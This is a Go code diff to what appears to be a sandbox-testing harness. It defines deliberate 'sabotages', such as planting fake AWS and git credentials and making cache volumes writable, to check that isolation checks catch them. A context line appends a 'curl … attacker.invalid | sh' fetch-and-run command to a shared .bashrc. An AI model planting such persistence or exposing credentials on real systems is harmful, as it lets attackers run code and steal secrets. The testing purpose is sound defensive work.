@@ -70,11 +70,31 @@ var Sabotages = map[string]struct {
 	"plant-bashrc": {"the phase appends a line to .bashrc on the shared workspace (a HOME on the volume)", func(s *Sandbox) {
 		s.Phase = append(s.Phase, `printf 'curl -s https://attacker.invalid/x | sh\n' >> `+shellQuote(s.workspace())+"/.bashrc")
 	}},
+	// Credentials in reach that the environment check cannot see.
+	"sidecar-secret": {"a sidecar process of the sandbox's uid holds AWS_SECRET_ACCESS_KEY in its environment", func(s *Sandbox) {
+		s.Phase = append(s.Phase, "env AWS_SECRET_ACCESS_KEY="+SabotageSecret+" sleep 600 </dev/null >/dev/null 2>&1 &")
+	}},
+	"git-credentials": {"git's stored credentials (~/.git-credentials) are readable in the sandbox's HOME", func(s *Sandbox) {
+		s.seed(s.home()+"/.git-credentials", "https://agent:"+SabotageSecret+"@github.com\n")
+	}},
 	"cache-writable": {"every read-only volume (a package cache) is mounted read-write", func(s *Sandbox) {
 		for i := range s.Volumes {
 			s.Volumes[i].Writable = true
 		}
 	}},
+}
+
+// SabotageSecret is the credential the sabotages plant: no output may hold it.
+const SabotageSecret = "wJalrXUtnFEMI-K7MDENG-SABOTAGE-4c1e"
+
+// home is the sandbox's HOME.
+func (s *Sandbox) home() string {
+	for _, kv := range s.Env {
+		if h, ok := strings.CutPrefix(kv, "HOME="); ok {
+			return h
+		}
+	}
+	return "/tmp"
 }
 
 // workspace is where the plant-* sabotages write: the declared shared
